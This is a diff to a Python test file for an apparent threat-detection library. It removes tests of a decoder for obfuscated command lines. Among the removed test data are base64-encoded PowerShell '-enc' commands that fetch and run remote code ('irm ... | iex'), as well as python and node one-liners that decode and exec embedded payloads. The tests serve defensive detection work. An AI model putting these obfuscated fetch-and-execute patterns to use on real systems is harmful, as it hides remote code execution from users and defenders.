@@ -1,14 +1,11 @@
 # ruff: noqa: E501 (rows of tables)
 """Each family of evidence: what fires, what does not, and what cannot be seen."""
 
-import base64
-
 import polars as pl
 import pytest
-from channel_rows import channel, ledger, observed
+from channel_rows import channel, hidden, ledger, observed
 
 from beacon import evidence
-from beacon.evidence.decode import LONGEST_TEXT, decode
 
 
 def fired(**fields: object) -> set[str]:
@@ -16,51 +13,7 @@ def fired(**fields: object) -> set[str]:
     return {name for name, entry in entries.items() if entry["state"] == "fired"}
 
 
-def hidden(text: str, encoding: str = "utf-16-le") -> str:
-    return base64.b64encode(text.encode(encoding)).decode()
-
-
-# --- decoding -------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize("flag", ["-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-Enco", "–enc"])
-def test_every_spelling_of_encoded_command_is_decoded(flag: str) -> None:
-    assert decode(f"powershell.exe -NoP {flag} {hidden('irm https://t.me/s/x | iex')}") == (
-        "irm https://t.me/s/x | iex"
-    )
-
-
-@pytest.mark.parametrize(
-    "line",
-    [
-        "python -c \"import base64; exec(base64.b64decode('{}'))\"",
-        "node -e \"eval(Buffer.from('{}','base64').toString())\"",
-        'powershell "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("{}"))"',
-    ],
-)
-def test_a_literal_that_the_script_decodes_itself_is_decoded(line: str) -> None:
-    assert decode(line.format(hidden("print('hello world')", "utf-8"))) == "print('hello world')"
-
-
-def test_what_is_inside_what_was_decoded_is_decoded_too_but_not_for_ever() -> None:
-    inner = f"powershell -enc {hidden('irm t.me/s/x')}"
-    outer = decode(f"powershell -enc {hidden(inner)}")
-    assert outer.splitlines() == [inner, "irm t.me/s/x"]
-    deepest = f"powershell -enc {hidden(f'powershell -enc {hidden(inner)}')}"
-    assert "irm t.me/s/x" not in decode(deepest)
-
-
-@pytest.mark.parametrize(
-    "line",
-    ["", "-enc", "powershell -e notbase64!", f"x -enc {hidden('ab')[:5]}", "curl -e http://a.example",
-     "tar -e AAAAAAAAAAAA", "x -enc " + base64.b64encode(bytes(range(256))).decode()],
-)  # fmt: skip
-def test_what_does_not_read_as_text_is_nothing(line: str) -> None:
-    assert decode(line) == ""
-
-
-def test_length_is_capped() -> None:
-    assert len(decode(f"powershell -enc {hidden('a' * 100_000)}")) <= LONGEST_TEXT
+# --- decoded text ---------------------------------------------------------------------------
 
 
 def test_decoded_text_is_judged_by_the_same_terms() -> None:
